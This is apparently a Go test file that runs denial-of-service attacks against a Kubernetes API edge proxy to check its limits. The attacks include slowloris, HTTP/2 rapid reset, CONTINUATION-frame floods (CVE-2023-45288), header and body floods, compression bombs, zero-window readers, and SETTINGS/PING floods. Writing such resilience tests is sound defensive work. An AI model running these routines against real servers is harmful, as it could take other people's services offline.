package attack

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/asn1"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	. "github.com/onsi/gomega"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/edgehub-io/edge-hub/edgehub/limits"
	"github.com/edgehub-io/edge-hub/test/hub"
)

func (s *siege) slowloris(context.Context) string {
	var h held
	defer h.letGo()
	atOnce(2000, 32, func(i int) {
		if i%2 == 0 {
			conn, err := s.from(2)
			if err != nil {
				return
			}
			if i%4 == 0 {
				_, _ = conn.Write([]byte{0x16, 3, 1, 2, 0, 1, 0}) // the beginning of a ClientHello
			}
			h.hold(conn)
			return
		}
		conn, err := s.secure(2, "http/1.1")
		if err != nil {
			return
		}
		_, _ = io.WriteString(conn, "GET /api/v1/namespaces HTTP/1.1\r\nHost: kubernetes\r\n")
		h.hold(conn)
	})
	for range 3 {
		time.Sleep(500 * time.Millisecond)
		for _, conn := range h.conns {
			if c, ok := conn.(*tls.Conn); ok {
				_, _ = io.WriteString(c, "X-A: b\r\n")
			}
		}
	}
	return fmt.Sprintf("%d stayed open", h.open())
}

// certificates sends client certificates of 200 KB each, which their connections would
// keep. Every other one never comes to its end.
func (s *siege) certificates(context.Context) string {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	s.Expect(err).NotTo(HaveOccurred())
	template := &x509.Certificate{SerialNumber: big.NewInt(1), NotAfter: time.Now().Add(time.Hour), ExtraExtensions: []pkix.Extension{{Id: asn1.ObjectIdentifier{1, 2, 3}, Value: make([]byte, 200<<10)}}}
	der, err := x509.CreateCertificate(rand.Reader, template, template, key.Public(), key)
	s.Expect(err).NotTo(HaveOccurred())
	config := s.clientTLS(tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key})
	config.ServerName, config.NextProtos = "127.0.0.1", []string{"h2"}
	var h held
	defer h.letGo()
	atOnce(250, 32, func(i int) {
		raw, err := s.from(19)
		if err != nil {
			return
		}
		h.hold(raw)
		_ = raw.SetDeadline(time.Now().Add(10 * time.Second))
		conn := tls.Client(&cutShort{raw, 150<<10 + (i%2)<<20}, config)
		if conn.Handshake() == nil {
			_, _ = io.WriteString(conn, http2.ClientPreface)
			_ = http2.NewFramer(conn, conn).WriteSettings()
		}
	})
	time.Sleep(2 * time.Second)
	return fmt.Sprintf("%d were made", len(h.conns))
}

// cutShort is a connection that sends no more than some bytes.
type cutShort struct {
	net.Conn
	left int
}

// Write implements io.Writer.
func (c *cutShort) Write(b []byte) (int, error) {
	some := b[:min(len(b), c.left)]
	c.left -= len(some)
	if len(some) > 0 {
		if n, err := c.Conn.Write(some); err != nil {
			return n, err
		}
	}
	return len(b), nil
}

func (s *siege) crowd(context.Context) string {
	var h held
	defer h.letGo()
	atOnce(750, 32, func(i int) {
		conn, err := s.secure(2+i%3, "h2")
		if err != nil {
			return
		}
		_, _ = io.WriteString(conn, http2.ClientPreface)
		_ = http2.NewFramer(conn, conn).WriteSettings()
		h.hold(conn)
	})
	time.Sleep(2 * time.Second)
	return fmt.Sprintf("%d were made", len(h.conns))
}

// h2 is a connection on which requests are written without waiting.
type h2 struct {
	conn    *tls.Conn
	framer  *http2.Framer
	block   bytes.Buffer
	encoder *hpack.Encoder
	wmu     sync.Mutex
	next    uint32
}

func (s *siege) h2(host int) (*h2, error) {
	conn, err := s.secure(host, "h2")
	if err != nil {
		return nil, err
	}
	c := &h2{conn: conn, framer: http2.NewFramer(conn, conn), next: 1}
	c.encoder = hpack.NewEncoder(&c.block)
	_, err = io.WriteString(conn, http2.ClientPreface)
	if err == nil {
		err = c.framer.WriteSettings()
	}
	return c, err
}

// request writes a GET and returns its stream.
func (c *h2) request(path, token string, end bool) (uint32, error) {
	return c.get(end, path, field{"authorization", "Bearer " + token})
}

// requestAs writes a whole GET that accepts a media type, any if that is empty.
func (c *h2) requestAs(path, token, accept string) (uint32, error) {
	if accept == "" {
		return c.request(path, token, true)
	}
	return c.get(true, path, field{"authorization", "Bearer " + token}, field{"accept", accept})
}

func (c *h2) get(end bool, path string, fields ...field) (uint32, error) {
	c.wmu.Lock()
	defer c.wmu.Unlock()
	c.block.Reset()
	for _, f := range append([]field{{":method", "GET"}, {":scheme", "https"}, {":authority", "kubernetes"}, {":path", path}, {"user-agent", "edge-app/1"}}, fields...) {
		_ = c.encoder.WriteField(hpack.HeaderField{Name: f.name, Value: f.value})
	}
	id := c.next
	c.next += 2
	return id, c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.block.Bytes(), EndStream: end, EndHeaders: true})
}

// statuses reads until ctx ends, and counts responses by status.
func (c *h2) statuses(counted func(status string)) {
	c.framer.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	for {
		frame, err := c.framer.ReadFrame()
		if err != nil {
			return
		}
		switch frame := frame.(type) {
		case *http2.MetaHeadersFrame:
			counted(frame.PseudoValue("status"))
		case *http2.RSTStreamFrame:
			counted("reset")
		case *http2.SettingsFrame:
			if !frame.IsAck() {
				c.wmu.Lock()
				_ = c.framer.WriteSettingsAck()
				c.wmu.Unlock()
			}
		}
	}
}

func (s *siege) watches(context.Context) string {
	var mu sync.Mutex
	count := map[string]int{}
	var h held
	var readers sync.WaitGroup
	atOnce(50, 8, func(int) {
		c, err := s.h2(3)
		if err != nil {
			return
		}
		h.hold(c.conn)
		readers.Go(func() {
			c.statuses(func(status string) {
				mu.Lock()
				count[status]++
				mu.Unlock()
			})
		})
		// Watches that go on from a version are recorded, others are not.
		for _, query := range slices.Repeat([]string{"?watch=1", "?watch=1&resourceVersion=4"}, 100) {
			if _, err := c.request("/api/v1/namespaces/quiet/configmaps"+query, s.token, true); err != nil {
				return
			}
		}
	})
	s.Eventually(func() (sum int) {
		mu.Lock()
		defer mu.Unlock()
		for _, n := range count {
			sum += n
		}
		return sum
	}).WithTimeout(30 * time.Second).Should(BeNumerically(">=", 9000))
	h.letGo()
	readers.Wait()
	s.Expect(count["200"]).To(BeNumerically("<=", limits.Defaults().WatchesPerCaller), "one identity has more watches than it may")
	s.Expect(count["200"]).To(BeNumerically(">", 100))
	return fmt.Sprintf("answered with %v", count)
}

func (s *siege) rapidReset(ctx context.Context) string {
	var sent, connections atomic.Int64
	atOnce(8, 8, func(int) {
		for sent.Load() < 50_000 && ctx.Err() == nil {
			c, err := s.h2(4)
			if err != nil {
				continue
			}
			connections.Add(1)
			go c.statuses(func(string) {})
			_ = c.conn.SetWriteDeadline(time.Now().Add(5 * time.Second))
			for err == nil && sent.Load() < 50_000 && ctx.Err() == nil {
				var id uint32
				if id, err = c.request("/api/v1/namespaces/quiet/configmaps", s.token, true); err == nil {
					c.wmu.Lock()
					err = c.framer.WriteRSTStream(id, http2.ErrCodeCancel)
					c.wmu.Unlock()
					sent.Add(1)
				}
			}
			_ = c.conn.Close()
		}
	})
	return fmt.Sprintf("%d sent on %d connections", sent.Load(), connections.Load())
}

func (s *siege) attacker(host int) *http.Client {
	client := s.dial()
	transport := client.Transport.(*http.Transport)
	transport.DialContext = func(context.Context, string, string) (net.Conn, error) { return s.from(host) }
	return client
}

func (s *siege) bombs(ctx context.Context) string {
	client := s.attacker(5)
	all := bombs()
	answers := make([]int, len(all))
	atOnce(len(all), 4, func(i int) {
		resp, err := hub.Do(ctx, client, s.hub.URL(), hub.Request{Path: all[i].path, Token: s.token, UserAgent: "edge-app/1", Accept: all[i].mediaType, Header: http.Header{"Accept-Encoding": {"gzip"}}})
		if err == nil && resp.Code == http.StatusOK {
			answers[i] = len(resp.Body)
		}
	})
	for i, n := range answers {
		s.Expect(n).To(Equal(len(all[i].body)), "%s was passed on as it is", all[i].path)
	}
	// Recording goes on after the answer.
	time.Sleep(6 * time.Second)
	post, err := hub.Do(ctx, client, s.hub.URL(), hub.Request{Method: "POST", Path: "/api/v1/namespaces/siege/configmaps", Token: s.token, UserAgent: "edge-app/1",
		Header: http.Header{"Content-Type": {"application/json"}, "Content-Encoding": {"gzip"}}, Body: string(all[6].body)})
	s.Expect(err).NotTo(HaveOccurred())
	s.Expect(post.Code).To(BeNumerically(">=", 400))
	return fmt.Sprintf("%d answers of 1 GB in 1 MB each", len(all))
}

func (s *siege) headers(ctx context.Context) string {
	var codes sync.Map
	atOnce(60, 16, func(i int) {
		if i%2 == 0 {
			conn, err := s.secure(6, "http/1.1")
			if err != nil {
				return
			}
			defer conn.Close()
			_, _ = io.WriteString(conn, "GET / HTTP/1.1\r\nHost: kubernetes\r\n")
			_ = conn.SetDeadline(time.Now().Add(2 * time.Second))
			line := "X-" + strings.Repeat("a", 1000) + ": " + strings.Repeat("b", 31_000) + "\r\n"
			for range 320 { // 10 MB
				if _, err := io.WriteString(conn, line); err != nil {
					break
				}
			}
			answer := make([]byte, 12)
			_, _ = io.ReadFull(conn, answer)
			codes.Store(string(answer), true)
			return
		}
		c, err := s.h2(6)
		if err != nil {
			return
		}
		defer c.conn.Close()
		_ = c.conn.SetDeadline(time.Now().Add(2 * time.Second))
		go c.statuses(func(status string) { codes.Store("h2 "+status, true) })
		// A header that goes on in CONTINUATION frames (CVE-2023-45288).
		fragment := bytes.Repeat([]byte("\x40\x01a\x7f\x00"+strings.Repeat("b", 127)), 100)
		c.wmu.Lock()
		defer c.wmu.Unlock()
		err = c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: fragment})
		for i := 0; err == nil && i < 10<<20/len(fragment) && ctx.Err() == nil; i++ {
			err = c.framer.WriteContinuation(1, false, fragment)
		}
	})
	seen := []string{}
	codes.Range(func(code, _ any) bool { seen = append(seen, code.(string)); return true })
	return fmt.Sprintf("answered with %q", seen)
}

// unfinished sends headers that stop just before their end, in both protocols, over
// as many connections as three addresses may have.
func (s *siege) unfinished(context.Context) string {
	var h held
	defer h.letGo()
	atOnce(750, 32, func(i int) {
		host, long := 20+i/250, strings.Repeat("x", 14_000)
		if i%2 == 0 {
			conn, err := s.secure(host, "http/1.1")
			if err != nil {
				return
			}
			h.hold(conn)
			_ = conn.SetWriteDeadline(time.Now().Add(2 * time.Second))
			_, err = io.WriteString(conn, "GET / HTTP/1.1\r\nHost: kubernetes\r\n")
			for n := 0; err == nil && n < 4; n++ {
				_, err = fmt.Fprintf(conn, "X-%d: %s\r\n", n, long)
			}
			return
		}
		c, err := s.h2(host)
		if err != nil {
			return
		}
		h.hold(c.conn)
		_ = c.conn.SetWriteDeadline(time.Now().Add(2 * time.Second))
		// A string of 70,000 bytes, most of which come.
		err = c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte("\x40\x01a\x7f\xf1\xa1\x04" + long)})
		for n := 0; err == nil && n < 4; n++ {
			err = c.framer.WriteContinuation(1, false, []byte(long))
		}
	})
	time.Sleep(2 * time.Second)
	return fmt.Sprintf("%d connections", len(h.conns))
}

func (s *siege) bodies(ctx context.Context) string {
	client := s.attacker(7)
	large, err := hub.Do(ctx, client, s.hub.URL(), hub.Request{Method: "POST", Path: "/api/v1/namespaces/siege/configmaps", Token: s.token, UserAgent: "edge-app/1", Body: strings.Repeat(" ", 20<<20)})
	code := 0
	if err == nil {
		code = large.Code
	}
	// Everybody may ask what they may, so these are read on their way.
	second, _ := s.account("siege", "attacker-with-bodies")
	var h held
	defer h.letGo()
	atOnce(150, 16, func(i int) {
		conn, err := s.secure(7+100*(i%2), "http/1.1")
		if err != nil {
			return
		}
		token, upgrade := s.token, ""
		if i%2 > 0 {
			token = second
		}
		if i%4 > 1 {
			upgrade = "Upgrade: x\r\n"
		}
		fmt.Fprintf(conn, "POST /apis/authorization.k8s.io/v1/selfsubjectaccessreviews HTTP/1.1\r\nHost: kubernetes\r\nContent-Type: application/json\r\nAuthorization: Bearer %s\r\n%sContent-Length: 1000000\r\n\r\n{", token, upgrade)
		h.hold(conn)
	})
	for range 6 {
		time.Sleep(500 * time.Millisecond)
		for _, conn := range h.conns {
			_, _ = conn.Write([]byte(" "))
		}
	}
	return fmt.Sprintf("20 MB: %d; %d bodies that trickle", code, len(h.conns))
}

func (s *siege) deafReaders(context.Context) string {
	var h held
	defer h.letGo()
	atOnce(20, 8, func(i int) {
		path := "/api/v1/namespaces/big/configmaps"
		if i%2 == 0 {
			path += "?watch=1&sendInitialEvents=true&allowWatchBookmarks=true&resourceVersionMatch=NotOlderThan"
		}
		if i%4 < 2 {
			conn, err := s.secure(8, "http/1.1")
			if err != nil {
				return
			}
			fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: kubernetes\r\nUser-Agent: edge-app/1\r\nAuthorization: Bearer %s\r\n\r\n", path, s.token)
			h.hold(conn)
			return
		}
		c, err := s.h2(8)
		if err != nil {
			return
		}
		// The window is as large as it may be, and nothing is read.
		_ = c.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1})
		_ = c.framer.WriteWindowUpdate(0, 1<<30)
		_, _ = c.request(path, s.token, true)
		h.hold(c.conn)
	})
	time.Sleep(4 * time.Second)
	return fmt.Sprintf("%d of them", len(h.conns))
}

// deafStreams opens as many watches of 20 MB as one identity may have, and takes
// nothing of them.
func (s *siege) deafStreams(context.Context) string { return s.deaf("resourceVersion=0") }

// deafInformers does the same with initial events (KEP-3157), which are recorded.
func (s *siege) deafInformers(context.Context) string {
	return s.deaf("sendInitialEvents=true&resourceVersionMatch=NotOlderThan&allowWatchBookmarks=true")
}

func (s *siege) deaf(query string) string {
	var answered atomic.Int64
	letGo := s.shut("/api/v1/namespaces/big/configmaps?watch=1&"+query, "", func(string) { answered.Add(1) })
	defer letGo()
	s.Eventually(answered.Load).WithTimeout(30 * time.Second).Should(BeNumerically(">=", 1000))
	time.Sleep(2 * time.Second) // in which what they don't take comes
	return fmt.Sprintf("%d are answered", answered.Load())
}

// shut sends 1,050 requests on three connections, with windows that are shut, and counts
// the answers, until letGo is called.
func (s *siege) shut(path, accept string, counted func(status string)) (letGo func()) {
	var h held
	var readers sync.WaitGroup
	atOnce(3, 3, func(i int) {
		c, err := s.h2(8 + i)
		if err != nil {
			return
		}
		h.hold(c.conn)
		_ = c.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		readers.Go(func() { c.statuses(counted) })
		for range 350 {
			if _, err := c.requestAs(path, s.token, accept); err != nil {
				return
			}
		}
	})
	return func() {
		h.letGo()
		readers.Wait()
	}
}

// deafWebSockets does the same with a WebSocket each, as many as three addresses may
// have connections, since each has one of its own.
func (s *siege) deafWebSockets(context.Context) string {
	var h held
	defer h.letGo()
	var answered atomic.Int64
	atOnce(750, 32, func(i int) {
		conn, err := s.secure(23+i/250, "http/1.1")
		if err != nil {
			return
		}
		h.hold(conn)
		_ = conn.SetDeadline(time.Now().Add(30 * time.Second))
		fmt.Fprintf(conn, "GET /api/v1/namespaces/big/configmaps?watch=1&sendInitialEvents=true&resourceVersionMatch=NotOlderThan&allowWatchBookmarks=true HTTP/1.1\r\n"+
			"Host: kubernetes\r\nUser-Agent: edge-app/1\r\nAuthorization: Bearer %s\r\nOrigin: https://kubernetes\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"+
			"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\r\n\r\n", s.token)
		status := make([]byte, len("HTTP/1.1 101"))
		if _, err := io.ReadFull(conn, status); err == nil && string(status) == "HTTP/1.1 101" {
			answered.Add(1)
		}
	})
	s.Expect(answered.Load()).To(BeNumerically(">", 700))
	time.Sleep(2 * time.Second) // in which what they don't take comes
	return fmt.Sprintf("%d are answered", answered.Load())
}

func (s *siege) lists(ctx context.Context) string {
	ctx, cancel := context.WithTimeout(ctx, 8*time.Second)
	defer cancel()
	var whole, refused, cut atomic.Int64
	clients := []*http.Client{s.attacker(9), s.attacker(10), s.attacker(11), s.attacker(12)}
	atOnce(200, 200, func(i int) {
		resp, err := hub.Open(ctx, clients[i%len(clients)], s.hub.URL(), hub.Request{Path: "/api/v1/namespaces/big/configmaps", Token: s.token, UserAgent: "edge-app/1"})
		if err != nil {
			cut.Add(1)
			return
		}
		defer resp.Body.Close()
		n, err := io.Copy(io.Discard, resp.Body)
		switch {
		case resp.StatusCode == http.StatusTooManyRequests:
			refused.Add(1)
		case err != nil || n < 20<<20:
			cut.Add(1)
		default:
			whole.Add(1)
		}
	})
	return fmt.Sprintf("%d whole, %d refused, %d given up after 8 s", whole.Load(), refused.Load(), cut.Load())
}

// unread sends requests that are refused at once, and takes none of the answers: with
// windows that are shut, and without reading. Then one cheap frame after the other.
func (s *siege) unread(ctx context.Context) string {
	var sent, connections atomic.Int64
	var h held
	defer h.letGo()
	long := strings.Repeat("x", 8000)
	atOnce(15, 15, func(i int) {
		c, err := s.h2(13 + i%3)
		if err != nil {
			return
		}
		h.hold(c.conn)
		connections.Add(1)
		if i%2 == 0 {
			_ = c.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		}
		_ = c.conn.SetWriteDeadline(time.Now().Add(5 * time.Second))
		for range 800 {
			if ctx.Err() != nil || c.post(long) != nil {
				return
			}
			sent.Add(1)
		}
	})
	entries := make([]http2.Setting, 0, 2000)
	for i := range cap(entries) {
		entries = append(entries, http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i)})
	}
	atOnce(60, 16, func(i int) {
		c, err := s.h2(16 + i%3)
		if err != nil {
			return
		}
		h.hold(c.conn)
		connections.Add(1)
		_ = c.conn.SetWriteDeadline(time.Now().Add(2 * time.Second))
		for n := 0; err == nil && n < 20_000 && ctx.Err() == nil; n++ {
			if i%4 == 0 {
				err = c.framer.WriteSettings(entries...)
			} else {
				err = c.framer.WritePing(false, [8]byte{})
			}
		}
	})
	time.Sleep(time.Second)
	return fmt.Sprintf("%d sent on %d connections", sent.Load(), connections.Load())
}

// post begins a POST with a body that is larger than any may be, and that never
// comes.
func (c *h2) post(long string) error {
	c.block.Reset()
	for _, f := range []field{{":method", "POST"}, {":scheme", "https"}, {":authority", "kubernetes"}, {":path", "/api/v1/namespaces/siege/configmaps"}, {"content-length", "9000000"}, {"x-long", long}} {
		_ = c.encoder.WriteField(hpack.HeaderField{Name: f.name, Value: f.value})
	}
	id := c.next
	c.next += 2
	return c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.block.Bytes(), EndHeaders: true})
}
